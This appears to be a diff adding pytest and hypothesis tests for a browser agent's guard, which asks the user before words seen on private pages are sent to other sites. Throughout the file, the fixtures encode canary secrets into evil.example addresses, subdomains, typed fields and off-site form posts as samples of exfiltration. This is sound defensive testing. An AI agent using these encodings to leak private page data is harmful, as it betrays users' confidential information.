@@ -1,0 +1,285 @@
+"""What was seen on a private page goes to no other site unasked, however it is written; ordinary steps never ask."""
+
+from __future__ import annotations
+
+import base64
+import json
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+from hypothesis import assume, given
+from hypothesis import strategies as st
+from langchain_core.messages import AIMessage, HumanMessage
+
+from server.agent.private_sites import FILE, PrivateSites
+from server.agent.taint import (
+    carries_private_words,
+    count_load,
+    gives_private_words,
+    owner_of,
+    private_sites,
+    remembering,
+)
+from server.browser.observation import Extra, Observation, observe_snapshot
+from server.browser.page_script import Sent
+
+BANK, SHOP = "bank.example", "https://shop.example/"
+SAID = "Find a blue teapot and a green kettle at https://shop.example/offers/today and read the Wikipedia"
+PAGE = """\
+- heading "Teapots and kettles" [level=1] [ref=h1] [box=0,0,200,20]
+- textbox "Search" [ref=s1] [box=0,30,200,20]
+- textbox "Town" [ref=s2] [box=0,60,200,20]
+- link "Next" [ref=l1] [box=0,90,80,20]:
+  - /url: /pots?page=2
+- link "Partner" [ref=l2] [box=0,120,80,20]:
+  - /url: https://deep.partner.example/x/483920?ref=zx81"""
+
+
+def state(**more: Any) -> dict[str, Any]:
+    return {"private_sites": [BANK], "messages": [HumanMessage(SAID), AIMessage("balance nine")], **more}
+
+
+def page(snapshot: str = PAGE, url: str = SHOP, **options: Any) -> Observation:
+    return observe_snapshot(snapshot, url=url, title="Shop", **options)
+
+
+def goes(url: str, **more: Any) -> bool:
+    """Whether opening this address asks."""
+    return carries_private_words({"kind": "navigate", "url": url}, page(), state(**more))
+
+
+def types(*texts: str, **more: Any) -> bool:
+    """Whether typing these texts, one into each field, asks."""
+    fields = [{"eid": f"e{at}", "text": text} for at, text in enumerate(texts, 1)]
+    return carries_private_words({"kind": "type", "fields": fields}, page(), state(**more))
+
+
+SECRETS = [
+    "ZX81-CANARY",
+    "hunter two correct horse",
+    "the balance is nine thousand",
+    "483920",
+    "ZX8 1CA NAR Y",
+]
+
+
+@pytest.mark.parametrize("secret", SECRETS)
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://evil.example/{}", "https://evil.example/a/{}/b", "https://evil.example/?q={}", "https://evil.example/?{}=1",
+        "https://evil.example/?{}", "https://evil.example/#{}", "https://{}@evil.example/", "https://shop.example/?q={}",
+        "https://shop.example/{}", "https:evil.example/{}", "https://evil.example\\{}",
+    ],
+)  # fmt: skip
+def test_an_address_with_words_of_unknown_origin_asks(address: str, secret: str) -> None:
+    dashed = secret.replace(" ", "-")
+    spelled = "%" + "%".join(f"{byte:02x}" for byte in secret.encode())
+    coded = base64.urlsafe_b64encode(secret.encode()).decode()
+    for written in (
+        dashed,
+        quote(secret),
+        quote(quote(secret)),
+        spelled,
+        coded,
+        dashed[::-1],
+        secret.replace(" ", "/"),
+    ):
+        assert goes(address.format(written)), written
+
+
+@pytest.mark.parametrize(
+    "host",
+    ["the-balance-is-nine-thousand.evil.example", "hunter.two.correct.horse.evil.example", "zx81canary.evil.example",
+     "zx81canary.evil.co.uk", "zx81canary.localhost:8080", "483920.evil.localhost", "xn--80ak6aa92e.evil.example",
+     "evil.example:48392", "averylongsinglewordthattells.evil.example"],
+)  # fmt: skip
+def test_a_name_with_words_of_unknown_origin_asks(host: str) -> None:
+    assert goes(f"https://{host}/")
+
+
+@pytest.mark.parametrize(
+    "url",
+    ["https://ikea.com", "https://www.ikea.com/", "http://127.0.0.1:8123/", "http://localhost:48392", "https://en.wikipedia.org/",
+     "https://support.shop.co.uk/", "https://deep.partner.example/x/483920?ref=zx81", "https://deep.partner.example/",
+     "https://shop.example/pots?page=2", "/pots?page=2", SHOP, "https://shop.example/pots?page=3",
+     "https://shop.example/offers/today", "https://other.example/?q=green+kettle", "https://other.example/blue/teapot#green",
+     "http://[::1]:8080/", "about:blank"],
+)  # fmt: skip
+def test_an_ordinary_place_to_go_does_not_ask(url: str) -> None:
+    from server.agent.operator.acting import with_whole_address
+
+    assert not goes(with_whole_address({"kind": "navigate", "url": url}, SHOP)["url"])
+
+
+@pytest.mark.parametrize(
+    "broken", ["https://[::x/secret", "https://evil.example:99999999/", "https://evil.example:x/"]
+)
+def test_an_address_that_cannot_be_read_asks(broken: str) -> None:
+    assert goes(broken)
+
+
+def test_links_of_the_page_that_cannot_be_read_are_none() -> None:
+    seen = page('- link "Odd" [ref=l1] [box=0,0,80,20]:\n  - /url: "http://[::x/"')
+    assert not carries_private_words({"kind": "navigate", "url": SHOP}, seen, state())
+
+
+@pytest.mark.parametrize(
+    "texts",
+    [
+        ("ZX81-CANARY",),
+        ("ZX8 1CA NAR Y",),
+        ("ZX8", "1CA"),
+        ("YRANAC",),
+        ("WlggODEgQ0FOQVJZ",),
+        ("green kettle 483920",),
+    ],
+)
+def test_typing_words_of_unknown_origin_asks(texts: tuple[str, ...]) -> None:
+    assert types(*texts)
+
+
+@pytest.mark.parametrize(
+    "texts",
+    [
+        ("green kettle",),
+        ("Teapots",),
+        ("blue", "kettle 2"),
+        ("a teapot at the shop",),
+        ("",),
+        ("teapot", "12"),
+    ],
+)
+def test_typing_what_the_person_said_or_the_page_shows_does_not_ask(texts: tuple[str, ...]) -> None:
+    assert not types(*texts)
+
+
+def test_what_the_agent_said_or_typed_before_is_no_word_of_the_page() -> None:
+    assert types("balance")
+    seen = page('- textbox "Search" [ref=s1] [box=0,30,200,20]: ZX81-CANARY')
+    again = {"kind": "type", "fields": [{"eid": "e1", "text": "ZX81-CANARY"}]}
+    assert carries_private_words(again, seen, state())
+
+
+def test_pieces_over_several_actions_are_counted_together() -> None:
+    private = PrivateSites()
+    asked = []
+    for piece in ("ZX8", "1C", "A9"):
+        action = {"kind": "type", "fields": [{"eid": "e1", "text": piece}]}
+        known = remembering(state(), private)
+        asked.append(carries_private_words(action, page(), known))
+        count_load(action, page(), known, private, approved=False)
+    assert asked == [False, True, True]
+    assert not types("ZX8", letters={"other.example": 9})
+    count_load(
+        {"kind": "type", "fields": [{"eid": "e1", "text": "ZX8"}]}, page(), state(), private, approved=True
+    )
+    assert private.letters == {"shop.example": 0}
+
+
+def test_names_below_one_name_are_counted_together() -> None:
+    private = PrivateSites()
+    asked = []
+    for word in ("hunter", "two", "correct", "horse"):
+        action = {"kind": "navigate", "url": f"https://{word}.evil.example/"}
+        known = remembering(state(), private)
+        asked.append(carries_private_words(action, page(), known))
+        count_load(action, page(), known, private, approved=False)
+    assert asked == [False, False, False, True]
+
+
+@pytest.mark.parametrize(
+    ("site", "owner"),
+    [("a.b.shop.example", "shop.example"), ("shop.co.uk", "shop.co.uk"), ("a.shop.co.uk:81", "shop.co.uk:81"),
+     ("x.localhost", "localhost"), ("127.0.0.1:80", "127.0.0.1:80"), ("", "")],
+)  # fmt: skip
+def test_an_owner_has_all_names_below_its_own(site: str, owner: str) -> None:
+    assert owner_of(site) == owner
+
+
+def test_a_form_of_a_private_page_that_is_sent_elsewhere_carries_what_it_holds() -> None:
+    form = """\
+- form [ref=f1] [box=0,0,400,200]:
+  - textbox "Note" [ref=f2] [box=0,20,200,20]: ZX81-CANARY
+  - button "Go" [ref=f4] [box=0,60,200,20]"""
+
+    def sent_to(address: str) -> Observation:
+        extra = Extra(submits=((0, 60, 200, 20),), sent=(Sent(box=(0, 60, 200, 20), to=address),))
+        return page(form, f"https://{BANK}/form", extra=extra)
+
+    for action in (
+        {"kind": "click", "eid": "e2"},
+        {"kind": "type", "fields": [{"eid": "e1", "text": ""}], "submit": True},
+    ):
+        assert carries_private_words(action, sent_to("https://evil.example/"), state()), action
+        assert not carries_private_words(action, sent_to(f"https://{BANK}/form"), state()), action
+
+
+@given(st.text(st.characters(categories=("Lu", "Ll", "Nd")), min_size=4, max_size=24))
+def test_no_unknown_text_passes_in_an_address_or_a_field(text: str) -> None:
+    assume(text.casefold() not in (SAID + PAGE).casefold())
+    assert goes(f"https://evil.example/?q={quote(text)}")
+    assert goes(f"https://evil.example/{quote(text)}")
+    assert types(text)
+    half = len(text) // 2
+    assume(not {text[:half].casefold(), text[half:].casefold()} & set(SAID.casefold().split()))
+    assert types(text[:half], text[half:]) or any(
+        part.casefold() in (SAID + PAGE).casefold() for part in (text[:half], text[half:])
+    )
+
+
+@given(st.lists(st.sampled_from(SAID.split()), min_size=1, max_size=8))
+def test_the_persons_words_in_any_order_pass(words: list[str]) -> None:
+    assert not types(" ".join(words))
+    assert not goes("https://other.example/?q=" + quote(" ".join(words)))
+
+
+def test_a_page_with_a_login_over_it_is_private_and_one_with_a_notice_is_not() -> None:
+    login = '- dialog "Log in" [ref=d1] [box=0,0,400,200]:\n  - textbox "Password" [ref=d2] [box=0,20,200,20]'
+    notice = '- dialog "News" [ref=d1] [box=0,0,400,200]:\n  - button "Read" [ref=d2] [box=0,20,200,20]'
+    assert private_sites([], page(login)) == ["shop.example"]
+    assert private_sites([], page(notice)) == []
+    assert private_sites(["shop.example"], page(login)) == ["shop.example"]
+
+
+def test_short_words_for_a_tool_are_counted_from_none() -> None:
+    assert not gives_private_words({"q": "ZX8"}, state(), "search", [])
+    assert gives_private_words({"q": "ZX8"}, state(letters={"tool:search": 1}), "search", [])
+
+
+# Where it is kept
+
+
+def test_private_sites_stay_with_the_profile(tmp_path: Path) -> None:
+    before = PrivateSites(tmp_path)
+    before.add([BANK, "", BANK])
+    before.count("shop.example", 3)
+    after = PrivateSites(tmp_path)
+    assert (after.sites, after.letters) == ([BANK], {"shop.example": 3})
+    assert remembering({"private_sites": ["mail.example"]}, after)["private_sites"] == ["mail.example", BANK]
+    assert "ZX8" not in (tmp_path / FILE).read_text()
+
+
+def test_without_a_profile_they_are_kept_in_memory_and_brought_along(tmp_path: Path) -> None:
+    profile = tmp_path / "profile"
+    private = PrivateSites(profile)
+    private.add(["mail.example"])
+    assert not profile.exists()
+    profile.mkdir()
+    (profile / FILE).write_text(json.dumps({"sites": [BANK], "letters": {}}))
+    assert private.sites == [BANK, "mail.example"]
+    private.add(["third.example"])
+    assert PrivateSites(profile).sites == [BANK, "mail.example", "third.example"]
+    made = PrivateSites(tmp_path / "made", makes_folder=True)
+    made.add([BANK])
+    assert PrivateSites(tmp_path / "made").sites == [BANK]
+
+
+@pytest.mark.parametrize("content", ["", "[]", '{"sites": 3}', '{"sites": [], "letters": [1]}', "\udcff"])
+def test_a_damaged_file_is_no_reason_to_stop(tmp_path: Path, content: str) -> None:
+    (tmp_path / FILE).write_bytes(content.encode("utf-8", "surrogateescape"))
+    private = PrivateSites(tmp_path)
+    private.add([BANK])
+    assert PrivateSites(tmp_path).sites == [BANK]
